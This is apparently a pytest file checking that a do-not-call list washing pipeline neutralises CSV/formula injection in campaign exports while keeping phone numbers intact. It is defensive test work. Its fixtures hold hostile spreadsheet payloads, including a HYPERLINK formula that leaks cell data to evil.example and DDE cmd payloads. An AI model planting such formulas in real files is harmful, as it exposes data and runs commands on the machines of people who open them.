"""CSV injection through the do-not-call files people open: a campaign list whose cells are
spreadsheet formulas comes out of ``cm dncr wash`` and the dialer's allowed list with every
such cell neutralised (leading quote), and its phone numbers still usable as numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import sqlalchemy as sa
from click.testing import CliRunner

from cm_pipelines.platform import landing
from cm_pipelines.tables import dncr as tables
from tests.dncr.dncr_helpers import csv_bytes, failure_message, wash_tenants
from tests.dncr.test_dncr_assets import prepare_wash_world, resources  # noqa: F401 - fixture

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"details")'
DDE = "=cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+cmd|' /C notepad'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
HOSTILE_REFS = [HYPERLINK, DDE, AT_SUM, PLUS, MINUS, TAB]
# A carriage return inside a cell makes the campaign reader refuse the whole list (quarantined
# as unreadable), so CR cells are tested on the writer (tests/domain/test_csv_cells.py).


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def test_cm_dncr_wash_neutralises_formula_cells_and_keeps_phone_numbers(
    resources,  # noqa: F811 - the fixture imported above
    monkeypatch,
    tmp_path: Path,
) -> None:
    from cm_pipelines.cli.main import cm

    prepare_wash_world(resources)
    monkeypatch.setenv("CM_WAREHOUSE_URL", resources["warehouse"].url)
    monkeypatch.setenv("CM_STORAGE_URL", resources["object_store"].url)
    monkeypatch.setenv("CM_REGISTRIES_FILE", resources["platform_config"].registries_file)
    phones = ["+12125559001", "2125559008", "+1 212 555 9006", DDE, AT_SUM, HYPERLINK, "2125559007"]
    refs = ["A", HYPERLINK, "-C", DDE, "E", "F", TAB]
    listing = tmp_path / "list.csv"
    listing.write_bytes(csv_bytes(("phone", "contact_ref"), list(zip(phones, refs, strict=True))))
    out = tmp_path / "out.csv"
    washed = CliRunner().invoke(
        cm,
        ["dncr", "wash", "--tenant", "beta-us", "--list", str(listing), "--out", str(out),
         "--at", "2026-11-10T00:00:00+00:00"],
    )  # fmt: skip
    assert washed.exit_code == 0, washed.output
    rows = _rows(out.read_bytes())
    by_ref = {row["contact_ref"]: row for row in rows}
    assert by_ref["'" + HYPERLINK]["phone"] == "2125559008"
    assert by_ref["'-C"]["e164"] == "+12125559006"  # a phone as written stays as it is
    assert (
        by_ref["'" + DDE]["phone"] == "'" + DDE and by_ref["'" + DDE]["reason"] == "invalid_number"
    )
    assert by_ref["E"]["phone"] == "'" + AT_SUM and by_ref["F"]["phone"] == "'" + HYPERLINK
    assert by_ref["'" + TAB]["e164"] == "+12125559007"
    assert by_ref["A"]["phone"] == "+12125559001" and by_ref["A"]["e164"] == "+12125559001"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "@", "\t", "\r")), value
            assert not value.startswith(("+", "-")) or value[1:].replace(" ", "").isdigit()


def test_the_dialers_allowed_list_neutralises_formula_contact_refs(
    resources,  # noqa: F811 - the fixture imported above
) -> None:
    prepare_wash_world(resources)
    numbers = [f"+1212555{9100 + index}" for index in range(len(HOSTILE_REFS))]
    resources["object_store"].write_bytes(
        landing.campaign_file("beta-us", "formulas"),
        csv_bytes(("phone", "contact_ref"), list(zip(numbers, HOSTILE_REFS, strict=True))),
    )
    result = wash_tenants(resources, ["beta-us"], washed_at="2026-11-10T00:00:00+00:00")
    assert result.success, failure_message(result)
    with resources["warehouse"].connect() as connection:
        [export] = connection.execute(
            sa.select(tables.campaign_washes.c.allowed_export_path).where(
                tables.campaign_washes.c.campaign_id == "formulas"
            )
        ).scalars()
    rows = _rows(resources["object_store"].read_bytes(export))
    assert sorted(row["contact_ref"] for row in rows) == sorted("'" + ref for ref in HOSTILE_REFS)
    assert sorted(row["e164"] for row in rows) == sorted(numbers)  # E.164 kept with its '+'
